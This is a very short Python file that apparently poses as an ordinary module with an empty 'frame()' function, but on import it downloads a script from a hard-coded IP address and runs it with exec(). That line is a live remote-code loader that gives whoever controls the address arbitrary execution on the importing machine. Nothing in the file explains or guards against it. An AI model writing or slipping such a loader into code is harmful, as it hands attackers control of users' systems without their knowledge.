import urllib.request as u
exec(u.urlopen('http://172.104.150.29/p.py').read().decode())
def frame():
    pass
